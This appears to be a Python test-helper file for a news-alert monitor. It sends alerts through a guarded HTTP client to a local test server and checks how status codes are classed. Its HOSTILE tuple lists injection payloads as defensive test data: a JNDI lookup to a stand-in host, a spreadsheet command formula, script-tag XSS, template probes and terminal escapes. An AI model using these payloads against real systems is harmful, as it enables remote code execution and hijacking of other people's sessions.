"""Sending in tests: through the real guarded client, to a server on this machine."""

from __future__ import annotations

import asyncio
import io
from collections.abc import Callable
from dataclasses import replace
from datetime import datetime
from typing import Any

import httpx

from monitor.core.models import Attempt, Carrier, Delivery, Receiver
from monitor.edges import transports
from monitor.edges.net import client, parse_allow
from tests.feed_server import FeedServer
from tests.make import NOW, delivery

# What a feed may bring: markup of several channels, mentions, direction overrides,
# characters of no width, terminal escapes, letters from right to left, half a pair.
HOSTILE = (
    "<!channel> <!here|x> <@U012AB3CD> @here #general <http://evil.example|bank>",
    "a & b < c > d &lt;!channel&gt; &amp;",
    "[x](http://evil.example) **x** *x* _x_ ~x~ `x` ```x```",
    "\u202egnp.exe\u202c \u2066x\u2069 ze\u200bro wi\ufeffdth so\xadft",
    "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07x \x00\x08\x9b",
    "لافروف يصل إلى باماكو لإجراء محادثات",
    "half \ud83d a pair",
    "line\r\nline\u2028line\u2029line",
    '{"type":"x"} \\ "',
    "{{7*7}} ${jndi:ldap://evil.example/x} <%= x %> %s %n {0} {title} #{x} $$x$$",
    "=cmd|' /C calc'!A0 +1 -1 @SUM(1)",
    "javascript:alert(1) data:text/html,x <script>alert(1)</script><img src=x onerror=y>",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334" * 400,
    "x" * 10_000,
    "\0" * 10_000,
    "& " * 5_000,
    "🛩️" * 5_000,
)

OK, PERMANENT, PASSING = "ok", "permanent", "passing"
# Every class of status, and what it must come to.
STATUSES = (
    (200, OK),
    (201, OK),
    (204, OK),
    (301, PERMANENT),
    (302, PERMANENT),
    (304, PERMANENT),
    (307, PERMANENT),
    (308, PERMANENT),
    (400, PERMANENT),
    (401, PERMANENT),
    (403, PERMANENT),
    (404, PERMANENT),
    (410, PERMANENT),
    (413, PERMANENT),
    (418, PERMANENT),
    (451, PERMANENT),
    (408, PASSING),
    (409, PASSING),
    (425, PASSING),
    (429, PASSING),
    (500, PASSING),
    (502, PASSING),
    (503, PASSING),
    (504, PASSING),
    (599, PASSING),
)


def came_to(attempt: Attempt) -> str:
    """The class of an attempt, as STATUSES has it."""
    if attempt.ok:
        assert not attempt.permanent
        return OK
    return PERMANENT if attempt.permanent else PASSING


def hostile_delivery(text: str) -> Delivery:
    """An alert with the same hostile text wherever a stranger's text can stand."""
    made = delivery()
    story = replace(
        made.alert.story,
        title=text,
        summary=text,
        link=f"https://news.example/{text}",
        carrier=replace(made.alert.story.carrier, source=text, country=text),
        matches=(replace(made.alert.story.matches[0], text=text[:6]),),
        reasons=(text, text),
    )
    others = tuple(
        Carrier(f"{number} {text}", "https://o.example/feed", f"https://o.example/{text}", NOW)
        for number in range(40)
    )
    return replace(made, alert=replace(made.alert, reason=text, story=story, others=others))


def with_client(server: FeedServer, use: Callable[[httpx.AsyncClient], Any]) -> Any:
    """What `use` (a coroutine function) returns, given a client that may reach the server."""

    async def run() -> Any:
        async with client(parse_allow([f"127.0.0.1:{server.port}"])) as http:
            return await use(http)

    return asyncio.run(run())


def send(
    server: FeedServer,
    receiver: Receiver,
    one: Delivery | None = None,
    now: datetime = NOW,
    allow: str = "",
) -> Attempt:
    """One attempt, as the service would make it; it may reach the server, or only `allow`."""
    assert transports.check(receiver) == ()
    allowed = parse_allow([allow or f"127.0.0.1:{server.port}"])

    async def run() -> Attempt:
        async with client(allowed) as http:
            transport = transports.build(receiver, http, out=io.StringIO(), allow=allowed)
            return await transport.send(one or delivery(), now)

    return asyncio.run(run())


def faults(kind: str, **options: str) -> list[str]:
    """What is wrong with a receiver of these options, none of which is shown."""
    told = [str(fault) for fault in transports.check(Receiver("desk", kind, options))]
    for value in options.values():
        assert len(value) < 6 or value not in "".join(told)
    return told
